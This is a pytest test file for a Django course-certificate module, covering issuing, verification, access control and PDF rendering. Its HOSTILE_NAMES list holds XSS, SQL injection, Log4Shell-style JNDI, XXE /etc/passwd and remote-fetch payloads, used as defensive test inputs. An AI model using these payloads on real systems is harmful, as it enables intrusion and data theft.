import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from certificates import rules
from certificates.models import CODE_ALPHABET, Certificate
from certificates.pdf import render_pdf
from courses import progress
from quizzes import attempts as quiz_rules
from quizzes.scoring import correct_ids
from tests.concurrency import run_at_once
from tests.factories import UserFactory, add_quiz, build_site


def complete_course(user, tree, final):
    for lesson in tree["lessons"]:
        progress.mark_lesson_complete(user=user, lesson=lesson)
    attempt = quiz_rules.start_attempt(user=user, quiz=final)
    answers = {q["id"]: sorted(correct_ids(q)) for q in attempt.snapshot["questions"]}
    quiz_rules.submit_attempt(attempt=attempt, answers=answers)


@pytest.fixture
def course_with_final(site_tree):
    return site_tree, add_quiz(site_tree["course"], kind="final", questions=2, pass_mark=100)


def certificate_for(user, tree, final):
    complete_course(user, tree, final)
    return Certificate.objects.get(user=user)


def pdf_text(pdf):
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


@pytest.mark.django_db
class TestIssuing:
    def test_issued_once_on_completion_with_fixed_name(self, course_with_final, learner):
        tree, final = course_with_final
        complete_course(learner, tree, final)
        certificate = Certificate.objects.get(user=learner)
        assert certificate.holder_name == learner.full_name
        learner.full_name = "Nama Lain"
        learner.save()
        progress.mark_lesson_complete(user=learner, lesson=tree["lessons"][0])
        rules.issue_if_complete(user=learner, course=tree["course"])
        assert Certificate.objects.filter(user=learner).count() == 1
        certificate.refresh_from_db()
        assert certificate.holder_name != "Nama Lain"

    def test_not_issued_without_a_passed_final_test(self, course_with_final, learner):
        tree, final = course_with_final
        for lesson in tree["lessons"]:
            progress.mark_lesson_complete(user=learner, lesson=lesson)
        attempt = quiz_rules.start_attempt(user=learner, quiz=final)
        quiz_rules.submit_attempt(attempt=attempt, answers={})
        assert not Certificate.objects.exists()

    def test_codes_are_random_unique_and_typeable(self):
        codes = {rules.new_code() for _ in range(2000)}
        assert len(codes) == 2000
        for code in codes:
            assert len(code) == 16 and set(code) <= set(CODE_ALPHABET)
        assert len(CODE_ALPHABET) ** 16 >= 2**80
        assert not set("01IO") & set(CODE_ALPHABET)

    def test_revoked_certificate_is_not_reissued_automatically(self, course_with_final, learner):
        tree, final = course_with_final
        certificate = certificate_for(learner, tree, final)
        rules.revoke(certificate=certificate, reason="Kecurangan", by=None)
        assert rules.issue_if_complete(user=learner, course=tree["course"]) is None
        assert Certificate.objects.count() == 1

    def test_reissue_revokes_the_old_one_and_records_it(self, course_with_final, learner):
        tree, final = course_with_final
        old = certificate_for(learner, tree, final)
        staff = UserFactory(is_staff=True)
        new = rules.reissue(certificate=old, holder_name="Nama Benar", by=staff)
        old.refresh_from_db()
        assert not old.is_valid and old.replaced_by == new
        assert new.holder_name == "Nama Benar" and new.reissued_by == staff
        assert new.code != old.code


@pytest.mark.django_db(transaction=True)
def test_issued_exactly_once_under_20_concurrent_completions():
    tree = build_site(lessons=1)
    user = UserFactory()
    progress.mark_lesson_complete(user=user, lesson=tree["lessons"][0])
    # Without a final test the course is complete once its lesson is done.
    Certificate.objects.all().delete()
    _, errors = run_at_once(
        lambda: rules.issue_if_complete(user=user, course=tree["course"]), times=20
    )
    assert errors == []
    assert Certificate.objects.filter(user=user).count() == 1


@pytest.mark.django_db
class TestVerification:
    def test_valid_certificate_shows_masked_name_and_facts(
        self, course_with_final, learner, client
    ):
        tree, final = course_with_final
        learner.full_name = "Siti Nurhaliza"
        learner.save()
        certificate = certificate_for(learner, tree, final)
        html = client.get(reverse("certificates:verify", args=[certificate.code])).content.decode()
        assert "Sertifikat sah" in html and "S*** N*******" in html
        assert "Siti Nurhaliza" not in html and "Nurhaliza" not in html
        assert certificate.course_title in html
        assert 'property="og:title"' in html

    def test_typed_code_with_dashes_and_lowercase_is_found(
        self, course_with_final, learner, client
    ):
        tree, final = course_with_final
        certificate = certificate_for(learner, tree, final)
        response = client.get(
            reverse("certificates:lookup"), {"kode": certificate.display_code.lower()}
        )
        assert response["Location"] == reverse("certificates:verify", args=[certificate.code])

    def test_name_check_says_cocok_or_tidak_cocok(self, course_with_final, learner, client):
        tree, final = course_with_final
        learner.full_name = "Siti Nurhaliza"
        learner.save()
        certificate = certificate_for(learner, tree, final)
        url = reverse("certificates:verify", args=[certificate.code])
        assert "Cocok." in client.post(url, {"nama": "  siti   NURHALIZA "}).content.decode()
        assert "Tidak cocok." in client.post(url, {"nama": "Siti Nurhalizah"}).content.decode()

    def test_revoked_shows_date_and_reason(self, course_with_final, learner, client):
        tree, final = course_with_final
        certificate = certificate_for(learner, tree, final)
        rules.revoke(certificate=certificate, reason="Data peserta keliru", by=None)
        html = client.get(reverse("certificates:verify", args=[certificate.code])).content.decode()
        assert "sudah dicabut" in html and "Data peserta keliru" in html

    def test_unknown_code_is_a_helpful_404(self, site_tree, client):
        response = client.get(reverse("certificates:verify", args=["ZZZZZZZZZZZZZZZZ"]))
        assert response.status_code == 404
        assert "Sertifikat tidak ditemukan" in response.content.decode()

    def test_lookups_are_rate_limited_with_an_indonesian_429(self, site_tree, client):
        url = reverse("certificates:verify", args=["ZZZZZZZZZZZZZZZZ"])
        statuses = [client.get(url).status_code for _ in range(35)]
        assert statuses[0] == 404 and statuses[-1] == 429
        assert "Terlalu banyak pemeriksaan" in client.get(url).content.decode()


@pytest.mark.django_db
class TestLearnerAccess:
    def test_own_certificate_list_download_and_share(
        self, course_with_final, learner, learner_client
    ):
        tree, final = course_with_final
        certificate = certificate_for(learner, tree, final)
        html = learner_client.get(reverse("certificates:mine")).content.decode()
        assert certificate.display_code in html and "https://wa.me/?text=" in html
        response = learner_client.get(reverse("certificates:download", args=[certificate.code]))
        assert response["Content-Type"] == "application/pdf"
        assert certificate.display_code in pdf_text(response.content)
        assert (
            learner_client.get(reverse("certificates:print", args=[certificate.code])).status_code
            == 200
        )

    def test_another_learners_certificate_is_404(self, course_with_final, learner, learner_client):
        tree, final = course_with_final
        other = UserFactory()
        certificate = certificate_for(other, tree, final)
        for name in ("certificates:download", "certificates:print"):
            assert learner_client.get(reverse(name, args=[certificate.code])).status_code == 404


@pytest.mark.django_db
class TestPdf:
    def test_pdf_holds_name_course_date_code_and_a_qr_with_the_url(
        self, course_with_final, learner
    ):
        tree, final = course_with_final
        learner.full_name = "Nguyễn Thị Çelik"
        learner.save()
        certificate = certificate_for(learner, tree, final)
        url = "https://waspada.example/sertifikat/" + certificate.code + "/"
        pdf = render_pdf([(certificate, rules.branding(tree["course"]), url)])
        text = pdf_text(pdf)
        assert "Nguyễn Thị Çelik" in text
        assert certificate.course_title in text and certificate.display_code in text
        assert re.search(rf"\d{{1,2}} ({'|'.join(MONTHS)}) \d{{4}}", text)
        assert decode_qr(pdf) == url

    def test_hostile_names_render_literally_everywhere(
        self, course_with_final, client, monkeypatch
    ):
        import socket

        def no_network(*args, **kwargs):
            raise AssertionError("rendering a certificate tried to open a network connection")

        # Image tags or entities in a name must never make the renderer fetch anything.
        monkeypatch.setattr(socket.socket, "connect", no_network)
        tree, final = course_with_final
        for index, name in enumerate(HOSTILE_NAMES):
            user = UserFactory(full_name=name)
            certificate = certificate_for(user, tree, final)
            pdf = render_pdf(
                [(certificate, rules.branding(tree["course"]), "https://contoh.id/s/")]
            )
            assert pdf.startswith(b"%PDF")
            if name.strip() and font_covers(name) and len(name) < 60:
                # Printed as typed: every character is in the page's text (right-to-left
                # scripts come back in visual order, so compare characters, not strings).
                assert set(name.split()[0]) <= set(pdf_text(pdf)), name
            own = Client()
            own.force_login(user)
            printed = own.get(
                reverse("certificates:print", args=[certificate.code])
            ).content.decode()
            assert "<script>alert" not in printed and "<img src=x" not in printed, index
            verify = client.post(
                reverse("certificates:verify", args=[certificate.code]), {"nama": name}
            )
            assert verify.status_code in (200, 429)
            Certificate.objects.filter(pk=certificate.pk).delete()


MONTHS = [
    "Januari",
    "Februari",
    "Maret",
    "April",
    "Mei",
    "Juni",
    "Juli",
    "Agustus",
    "September",
    "Oktober",
    "November",
    "Desember",
]
HOSTILE_NAMES = [
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    "<para>Budi</para>",
    "<b>Tebal</b> <i>Miring</i>",
    '<font color="red">Merah</font>',
    "<a href='javascript:alert(1)'>Tautan</a>",
    "<strike>Coret</strike> &amp; &lt;",
    '<img src="https://penipu.example/x.png"/>',
    "[[[getattr(pow, 'x')]]]",
    '<unichar name="x"/>',
    '<span style="color:red">Ani</span>',
    "%(name)s {name} {{ name }}",
    "Robert'); DROP TABLE accounts_user;--",
    "محمد عبد الله",
    "שלום עליכם",
    "\u202eRTL Override",
    "Nguyễn Văn Ánh",
    "Çelik Şahin Ğüneş",
    "Zoë Ñúñez Ørsted",
    "Łukasz Żółć",
    "Dwi 😀 Putri",
    "王小明",
    "A" * 150,
    "Sangat Panjang " * 10,
    "O'Brien-Smith Jr.",
    "  Spasi   Ganda  ",
    "Tab\tNama",
    "\\x00\\n",
    "${jndi:ldap://penipu.example/a}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "Budi &#60;b&#62;",
]


def font_covers(text):
    """Whether the embedded font has glyphs for every character (no CJK, no emoji)."""
    from reportlab.pdfbase import pdfmetrics

    glyphs = pdfmetrics.getFont("DejaVu").face.charToGlyph
    return all(ord(ch) in glyphs for ch in text if not ch.isspace())


def decode_qr(pdf):
    pytest.importorskip("pypdfium2")
    zxingcpp = pytest.importorskip("zxingcpp")
    import pypdfium2

    page = pypdfium2.PdfDocument(pdf)[0]
    image = page.render(scale=3).to_pil()
    results = zxingcpp.read_barcodes(image)
    assert results, "no QR code found on the page"
    return results[0].text
